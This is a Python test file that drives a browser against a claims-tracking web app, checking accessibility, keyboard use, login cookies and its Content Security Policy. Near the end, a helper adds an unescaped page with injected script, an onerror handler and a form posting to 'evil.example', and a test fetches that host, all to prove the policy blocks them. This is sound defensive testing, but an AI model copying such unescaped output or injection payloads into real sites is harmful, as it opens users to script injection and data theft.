"""The site in a real browser: it can be read, used by keyboard, and holds to its own policy."""

from __future__ import annotations

from pathlib import Path
from typing import Literal

import pytest
from fastapi import FastAPI
from starlette.responses import HTMLResponse

from onrecord.store import Store
from onrecord.web.accounts import Accounts
from tests.store.hand import claim, put_claims, put_report, statement
from tests.web.browser.conftest import Visit
from tests.web.conftest import CHEAP
from tests.web.hand import Desk

CLAIMS = (
    ("The ferry between Brenn and Fane will be sold before the winter", "contested", "1 source affirms, 1 denies it"),
    ("The harbour master has resigned", "denied", "1 source denies it, nobody affirms it"),
    ("The pier at Fane is closed until May", "corroborated", "3 reports affirm it from 2 independent origins"),
    ("Fane Lines pays no duty on fuel", "single-origin", "2 reports affirm it, all from one origin, Brenn Echo"),
    ("The lighthouse is to be lit again", "unconfirmed", "only unnamed sources affirm it"),
    ("Two crew members were hurt", "conceded", "Fane Lines denied it and now affirms it; nobody denies it"),
    ("Something, as somebody wondered", None, "Nobody affirms or denies it"),
)  # fmt: skip


@pytest.fixture
def filled(record_file: Path) -> None:
    with Store.open(record_file) as store, store.write() as w:
        put_report(w, statements=[statement(f"s{n}", content_words=wording) for n, (wording, *_) in enumerate(CLAIMS)])
        records = [
            claim(f"c{n}", (f"s{n}",), wording, status=status, reason=f"{(status or 'so').capitalize()}: {reason}.")
            for n, (wording, status, reason) in enumerate(CLAIMS)
        ]
        put_claims(w, *records)


@pytest.mark.usefixtures("filled")
@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("shape", ["phone", "desktop"])
def test_pages_have_no_barriers_and_fit(
    visit: Visit, shape: Literal["phone", "desktop"], theme: Literal["light", "dark"]
) -> None:
    tab = visit(shape, theme)
    for path in ("/", "/?q=pier", "/?q=nothing", "/signs", "/nowhere", "/?page=x"):
        tab.open(path)
        assert tab.barriers() == [], path
        assert not tab.is_too_wide(), path


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_the_pages_of_an_account_have_no_barriers_and_fit(visit: Visit, theme: Literal["light", "dark"]) -> None:
    tab = visit("phone", theme, {"anna": "editor"})
    tab.open("/account")
    assert tab.barriers() == []
    tab.page.get_by_label("Name").fill("anna")
    tab.page.get_by_label("Password").fill("wrong words again")
    tab.page.keyboard.press("Enter")
    assert tab.page.get_by_role("alert").inner_text() == "Name and password do not go together."
    assert tab.barriers() == []
    tab.page.get_by_label("Password").fill(Desk.PASSWORD)
    tab.page.get_by_role("button", name="Log in").click()
    tab.page.wait_for_url("**/account")
    assert tab.barriers() == []
    assert not tab.is_too_wide()


@pytest.mark.usefixtures("filled")
def test_a_claim_is_found_without_scripts(visit: Visit) -> None:
    tab = visit(scripts=False)
    tab.open("/")
    tab.page.get_by_role("searchbox", name="Search claims and words").fill("pier")
    tab.page.keyboard.press("Enter")
    tab.page.wait_for_url("**/?q=pier")
    assert tab.page.get_by_role("heading", level=1).inner_text() == "Claims with “pier”"
    assert tab.page.get_by_role("heading", level=2).all_inner_texts() == ["The pier at Fane is closed until May"]


@pytest.mark.usefixtures("filled")
def test_the_keyboard_leads_past_the_head(visit: Visit) -> None:
    tab = visit()
    tab.open("/signs")
    tab.page.keyboard.press("Tab")
    link = tab.page.get_by_role("link", name="Skip to the content")
    assert link.evaluate("one => one === document.activeElement")
    link.wait_for(state="visible")
    tab.page.keyboard.press("Enter")
    assert tab.page.evaluate("document.activeElement.id") == "main"


def test_one_logs_in_is_refused_and_logs_out(visit: Visit, record_file: Path) -> None:
    tab = visit(users={"bo": "reader"})
    tab.open("/signs")
    tab.page.get_by_label("Name").fill("bo")
    tab.page.get_by_label("Password").fill(Desk.PASSWORD)
    tab.page.get_by_role("button", name="Log in").click()
    tab.page.wait_for_url("**/signs")
    assert tab.page.evaluate("document.cookie") == ""
    cookies = tab.page.context.cookies()
    assert [(cookie.get("httpOnly"), cookie.get("sameSite")) for cookie in cookies] == [(True, "Lax")]
    with Store.open(record_file) as store:
        Accounts(store, hasher=CHEAP).set_role("bo", "editor")
    tab.page.reload()
    assert "bo (editor)" in tab.page.get_by_role("contentinfo").inner_text()
    tab.page.get_by_role("button", name="Log out").click()
    tab.page.wait_for_url("**/login")
    tab.open("/signs")
    assert "/login" in tab.page.url


def with_gaps(app: FastAPI) -> None:
    """Add a page such as must never be: with words of strangers that were not escaped."""

    @app.get("/gap")
    def gap() -> HTMLResponse:
        return HTMLResponse(
            "<title>x</title><script>document.title = 'ran'</script><img src=x onerror=\"document.title = 'ran'\">"
            "<style>p { color: red }</style><p id=p>words</p><form action='https://evil.example/'><button>b</button></form>"
        )


def test_the_policy_is_a_second_wall(visit: Visit) -> None:
    tab = visit(change=with_gaps)
    tab.open("/gap")
    assert tab.page.title() == "x"
    assert tab.page.locator("#p").evaluate("one => getComputedStyle(one).color") == "rgb(0, 0, 0)"
    tab.page.get_by_role("button").evaluate("one => one.form.requestSubmit()")
    tab.page.wait_for_timeout(200)
    assert tab.page.url.endswith("/gap")
    told = "\n".join(tab.wrong)
    for rule in ("script-src 'self'", "style-src 'self'", "form-action 'self'"):
        assert rule in told
    assert "asked https://evil.example" not in told
    tab.wrong.clear()


def test_what_is_wrong_in_a_tab_is_seen(visit: Visit) -> None:
    """The eyes of the other tests are open."""
    tab = visit()
    tab.open("/signs")
    tab.page.evaluate("document.querySelector('h1').outerHTML")
    tab.page.evaluate("document.querySelector('#q').labels[0].remove()")
    tab.page.evaluate("document.querySelector('#q').removeAttribute('placeholder')")
    assert any("critical label" in found for found in tab.barriers())
    with pytest.raises(Exception, match="TrustedHTML"):
        tab.page.evaluate("document.body.innerHTML = '<p>x</p>'")
    tab.page.evaluate("fetch('https://evil.example/').catch(() => 0)")
    assert any("connect-src" in wrong for wrong in tab.wrong)
    tab.wrong.clear()
